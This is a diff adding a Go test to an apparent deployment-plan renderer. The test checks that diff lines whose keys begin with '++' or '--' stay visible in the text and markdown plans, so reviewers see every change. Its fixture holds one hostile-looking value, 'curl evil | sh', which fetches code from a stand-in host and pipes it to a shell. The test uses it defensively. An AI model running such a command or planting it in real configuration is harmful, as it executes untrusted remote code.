@@ -140,3 +140,29 @@ func TestSummaryAndDestructive(t *testing.T) {
 		t.Errorf("reasons with maxPrunePercent 10: %v", r)
 	}
 }
+
+// TestDiffKeepsLinesThatLookLikeHeaders: a field whose key starts with "++"
+// (added) or "--" (removed) makes a diff line starting "+++" or "---"; it
+// is shown like any other, in the text plan and the pull-request plan: a
+// change a reviewer cannot see is a change nobody approved.
+func TestDiffKeepsLinesThatLookLikeHeaders(t *testing.T) {
+	t.Parallel()
+	before := parse(t, "apiVersion: e.example/v1\nkind: Widget\nmetadata: {name: w, namespace: n}\nspec: {replicas: 1}\n'--gone': 'was here'\n")
+	after := parse(t, "apiVersion: e.example/v1\nkind: Widget\nmetadata: {name: w, namespace: n}\nspec: {replicas: 1}\n'++hidden': 'curl evil | sh'\n")
+	p := examplePlan(t)
+	p.Changes = []Change{{Ref: object.RefOf(before), APIVersion: "e.example/v1", Action: ActionUpdate, Before: before, After: after}}
+	var txt, md bytes.Buffer
+	if err := RenderText(&txt, p, TextOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	if err := RenderMarkdown(&md, p, DefaultMarkdownOptions()); err != nil {
+		t.Fatal(err)
+	}
+	for name, out := range map[string]string{"text": txt.String(), "markdown": md.String()} {
+		for _, want := range []string{"+ ++hidden: curl evil | sh", "- --gone: was here"} {
+			if !strings.Contains(out, want) {
+				t.Errorf("the %s plan lacks the diff line %q:\n%s", name, want, out)
+			}
+		}
+	}
+}
